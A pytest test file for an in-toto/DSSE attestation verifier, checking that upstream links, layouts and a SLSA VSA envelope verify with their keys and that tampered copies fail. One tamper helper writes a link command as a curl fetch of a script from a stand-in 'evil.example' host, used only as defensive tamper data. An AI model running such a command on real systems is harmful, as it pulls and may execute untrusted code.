"""Real in-toto links and keys from in-toto, in-toto-golang and in-toto/demo (shared test data).

The links verify with their functionary keys, found either as PEM files in ``keys/`` or as the
functionary keys of the upstream layouts, and every tampered copy fails.
"""

from __future__ import annotations

import base64
import copy
import json
import shutil
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from in_toto.runlib import in_toto_run
from securesystemslib.signer import CryptoSigner

from app.verification.errors import VerificationError
from app.verification.keyring import key_algorithm, key_ids, load_keys, spki_key_id
from app.verification.trust import TrustStore
from app.verification.verify import verify_document

TESTDATA = Path(__file__).resolve().parents[3] / "shared" / "testdata"
pytestmark = pytest.mark.skipif(
    not TESTDATA.is_dir(), reason=f"shared test data not present at {TESTDATA}"
)

GOLANG = "in-toto-golang/test/data"
DEMO_KEYS = {  # in-toto/demo functionaries; in-toto's own tests use the same keys
    "alice": "in-toto-demo/owner_alice/alice.pub",
    "bob": "in-toto-demo/functionary_bob/bob.pub",
    "carl": "in-toto-demo/functionary_carl/carl.pub",
}
PEM_KEYS = [*DEMO_KEYS.values(), f"{GOLANG}/dan.pub", f"{GOLANG}/alice.pub"]
LAYOUTS = [
    f"{GOLANG}/demo.layout",
    f"{GOLANG}/demo.dsse.layout",
    f"{GOLANG}/dsse-only.root.layout",
    *(f"in-toto/derived/{d}/root.layout" for d in ("verifylib-single-signed", "cli-alice-signed")),
]
# link -> the PEM file of its signer (None: the key exists only inside demo.layout)
LINKS = {
    "in-toto/tests/demo_files/write-code.776a00e2.link": DEMO_KEYS["bob"],
    "in-toto/tests/demo_files/package.2f89b927.link": DEMO_KEYS["carl"],
    "in-toto/tests/demo_dsse_files/write-code.776a00e2.link": DEMO_KEYS["bob"],
    "in-toto/tests/demo_dsse_files/package.2f89b927.link": DEMO_KEYS["carl"],
    f"{GOLANG}/clone-dsse.776a00e2.link": DEMO_KEYS["bob"],
    f"{GOLANG}/update-version-dsse.776a00e2.link": DEMO_KEYS["bob"],
    f"{GOLANG}/package-dsse.2f89b927.link": DEMO_KEYS["carl"],
    f"{GOLANG}/write-code.b7d643de.link": f"{GOLANG}/dan.pub",
    f"{GOLANG}/foo.b7d643de.link": f"{GOLANG}/dan.pub",
    f"{GOLANG}/foo.d3ffd108.link": None,
    f"{GOLANG}/package.d3ffd108.link": None,
}


def policy_dir(root: Path, *, pems: Sequence[str] = (), layouts: Sequence[str] = ()) -> Path:
    for index, name in enumerate(pems):
        target = root / "keys" / f"{index}-{Path(name).name}"
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(TESTDATA / name, target)
    for index, name in enumerate(layouts):
        target = root / "layouts" / f"{index}-{Path(name).stem}.layout"
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(TESTDATA / name, target)
    return root


@pytest.fixture(scope="module")
def trust_from_pems(tmp_path_factory: pytest.TempPathFactory) -> TrustStore:
    return TrustStore(keys=load_keys(policy_dir(tmp_path_factory.mktemp("pems"), pems=PEM_KEYS)))


@pytest.fixture(scope="module")
def trust_from_layouts(tmp_path_factory: pytest.TempPathFactory) -> TrustStore:
    root = policy_dir(tmp_path_factory.mktemp("layouts"), layouts=LAYOUTS)
    return TrustStore(keys=load_keys(root))


def read(name: str) -> dict[str, Any]:
    return json.loads((TESTDATA / name).read_text())


def encode(document: dict[str, Any]) -> bytes:
    return json.dumps(document).encode()


def expect_code(code: str, document: dict[str, Any], trust: TrustStore) -> None:
    with pytest.raises(VerificationError) as info:
        verify_document(encode(document), trust)
    assert info.value.code == code, info.value.message


def pem_key_id(name: str) -> str:
    return spki_key_id(serialization.load_pem_public_key((TESTDATA / name).read_bytes()))


# -- the links verify ---------------------------------------------------------------------------


@pytest.mark.parametrize("link", [k for k, v in LINKS.items() if v])
def test_link_verifies_with_pem_keys(link: str, trust_from_pems: TrustStore) -> None:
    doc = verify_document((TESTDATA / link).read_bytes(), trust_from_pems)
    assert doc.format == "intoto-link"
    assert [s.key_id for s in doc.signers] == [pem_key_id(LINKS[link])]
    assert doc.signers[0].key_algorithm == "rsa-pss"


@pytest.mark.parametrize("link", list(LINKS))
def test_link_verifies_with_layout_functionary_keys(
    link: str, trust_from_layouts: TrustStore
) -> None:
    doc = verify_document((TESTDATA / link).read_bytes(), trust_from_layouts)
    assert doc.content_kind == "link"
    if LINKS[link]:
        assert [s.key_id for s in doc.signers] == [pem_key_id(LINKS[link])]
    body = _body(read(link))
    assert doc.statement == body
    assert {s.name: s.digests for s in doc.subjects} == body["products"]


def test_subjects_of_a_real_link(trust_from_pems: TrustStore) -> None:
    doc = verify_document(
        (TESTDATA / "in-toto/tests/demo_files/package.2f89b927.link").read_bytes(),
        trust_from_pems,
    )
    assert [(s.name, s.digests) for s in doc.subjects] == [
        (
            "foo.tar.gz",
            {"sha256": "52947cb78b91ad01fe81cd6aef42d1f6817e92b9e6936c1e5aabb7c98514f355"},
        )
    ]
    assert doc.statement is not None and doc.statement["name"] == "package"


# -- tampered copies fail -----------------------------------------------------------------------


def _body(document: dict[str, Any]) -> dict[str, Any]:
    if "signed" in document:
        return document["signed"]
    return json.loads(base64.b64decode(document["payload"]))


def _with_body(document: dict[str, Any], body: dict[str, Any]) -> dict[str, Any]:
    changed = copy.deepcopy(document)
    if "signed" in changed:
        changed["signed"] = body
    else:
        changed["payload"] = base64.b64encode(json.dumps(body).encode()).decode()
    return changed


def _tamper_products(body: dict[str, Any]) -> None:
    if body["products"]:
        digests = next(iter(body["products"].values()))
        digests["sha256"] = "0" * 64
    else:
        body["products"] = {"injected.bin": {"sha256": "0" * 64}}


def _tamper_step(body: dict[str, Any]) -> None:
    body["name"] = body["name"] + "-evil"


def _tamper_command(body: dict[str, Any]) -> None:
    body["command"] = ["curl", "https://evil.example/x.sh"]


@pytest.mark.parametrize("tamper", [_tamper_products, _tamper_step, _tamper_command])
@pytest.mark.parametrize("link", list(LINKS))
def test_tampered_link_body_fails(link: str, tamper: Any, trust_from_layouts: TrustStore) -> None:
    document = read(link)
    body = copy.deepcopy(_body(document))
    tamper(body)
    expect_code("signature_invalid", _with_body(document, body), trust_from_layouts)


@pytest.mark.parametrize("link", list(LINKS))
def test_tampered_link_signature_fails(link: str, trust_from_layouts: TrustStore) -> None:
    document = read(link)
    signature = document["signatures"][0]
    if "signed" in document:
        raw = bytearray.fromhex(signature["sig"])
        raw[len(raw) // 2] ^= 0x40
        signature["sig"] = raw.hex()
    else:
        raw = bytearray(base64.b64decode(signature["sig"]))
        raw[len(raw) // 2] ^= 0x40
        signature["sig"] = base64.b64encode(raw).decode()
    expect_code("signature_invalid", document, trust_from_layouts)


@pytest.mark.parametrize("link", list(LINKS))
def test_link_with_other_functionaries_only_is_untrusted(link: str, tmp_path: Path) -> None:
    others = [p for p in PEM_KEYS if p != LINKS[link]]
    trust = TrustStore(keys=load_keys(policy_dir(tmp_path, pems=others)))
    expect_code("untrusted_key", read(link), trust)


def test_unsigned_canonical_test_link(trust_from_layouts: TrustStore) -> None:
    expect_code("signature_invalid", read(f"{GOLANG}/canonical-test.link"), trust_from_layouts)


def test_sub_layout_named_like_a_link_is_refused(trust_from_layouts: TrustStore) -> None:
    expect_code(
        "unsupported_format", read(f"{GOLANG}/sub_layout.70ca5750.link"), trust_from_layouts
    )


# -- key ids: every id upstream signers used is computed from the key alone ---------------------


def _layout_cases() -> list[Any]:
    if not TESTDATA.is_dir():
        return []
    cases = json.loads((TESTDATA / "manifest.json").read_text())["cases"]
    return [pytest.param(c, id=c["id"]) for c in cases if c["kind"] == "intoto-layout"]


def _all_layouts() -> list[str]:
    if not TESTDATA.is_dir():
        return []
    derived = (TESTDATA / "in-toto" / "derived").glob("*/root.layout")
    return sorted({*LAYOUTS, *(p.relative_to(TESTDATA).as_posix() for p in derived)})


@pytest.mark.parametrize("layout", _all_layouts())
def test_layout_keyids_are_derivable_from_the_public_key(layout: str) -> None:
    body = _body(read(layout))
    for keyid, key in body["keys"].items():
        public = serialization.load_pem_public_key(key["keyval"]["public"].encode())
        assert keyid in key_ids(public, key_algorithm(public, key["scheme"])), (layout, keyid)


@pytest.mark.parametrize("case", _layout_cases())
def test_layout_signer_keyids_resolve_from_the_layout_key_files(
    case: dict[str, Any], tmp_path: Path
) -> None:
    # Which keyid styles signers use: manifest keyid_style "legacy" (in-toto-golang) and
    # securesystemslib's default (in-toto 3). The layout itself is the policy engine's job.
    keys = load_keys(policy_dir(tmp_path, pems=case["files"]["layout_keys"]))
    signature_keyids = {s["keyid"] for s in read(case["files"]["layout"])["signatures"]}
    resolved = signature_keyids & set(keys)
    if not case["files"]["layout_keys"] or "wrong_key" in case["id"]:
        assert case["expected"] == "fail"
        assert not resolved
    else:
        assert resolved == signature_keyids


# -- links made by in-toto 3.1 with the in-toto/demo functionary keys ---------------------------


@pytest.mark.filterwarnings("ignore::DeprecationWarning:pathspec")
@pytest.mark.parametrize("use_dsse", [False, True])
@pytest.mark.parametrize("functionary", ["bob", "carl"])
def test_in_toto_run_links_verify(functionary: str, use_dsse: bool, tmp_path: Path) -> None:
    private_path = TESTDATA / DEMO_KEYS[functionary].removesuffix(".pub")
    private = serialization.load_pem_private_key(private_path.read_bytes(), password=None)
    work = tmp_path / "work"
    work.mkdir()
    (work / "foo.py").write_text("print('hello')\n")
    out = tmp_path / "out"
    out.mkdir()
    in_toto_run(
        "write-code",
        [],
        ["foo.py"],
        [],
        base_path=str(work),
        signer=CryptoSigner(private),  # type: ignore[arg-type]
        use_dsse=use_dsse,
        metadata_directory=str(out),
    )
    [link_file] = out.iterdir()
    trust = TrustStore(
        keys=load_keys(policy_dir(tmp_path / "policy", pems=list(DEMO_KEYS.values())))
    )
    doc = verify_document(link_file.read_bytes(), trust)
    assert doc.signers[0].key_id == pem_key_id(DEMO_KEYS[functionary])
    assert [s.name for s in doc.subjects] == ["foo.py"]
    tampered = json.loads(link_file.read_text())
    body = _body(tampered)
    body["products"]["foo.py"]["sha256"] = "0" * 64
    expect_code("signature_invalid", _with_body(tampered, body), trust)


# -- a key-signed DSSE statement from slsa-verifier (Google VSA, KMS key id, P1363 signature) ---

VSA = "slsa-verifier/cli/slsa-verifier/testdata/vsa/gce/v1"


def test_vsa_envelope_with_kms_keyid(tmp_path: Path) -> None:
    trust = TrustStore(
        keys=load_keys(policy_dir(tmp_path, pems=[f"{VSA}/vsa_signing_public_key.pem"]))
    )
    data = (TESTDATA / VSA / "gke-gce-pre.bcid-vsa.jsonl").read_bytes()
    doc = verify_document(data, trust)
    assert doc.format == "dsse"
    assert doc.predicate_type == "https://slsa.dev/verification_summary/v1"
    assert doc.subjects[0].digests == {"gce_image_id": "8970095005306000053"}
    assert doc.signers[0].key_algorithm == "ecdsa-p256"
    envelope = json.loads(data)
    body = _body(envelope)
    body["predicate"]["verificationResult"] = "FAILED"
    # The KMS key id names no configured key, so a tampered payload matches no trusted key.
    expect_code("untrusted_key", _with_body(envelope, body), trust)
    others = TrustStore(keys=load_keys(policy_dir(tmp_path / "others", pems=PEM_KEYS)))
    expect_code("untrusted_key", envelope, others)
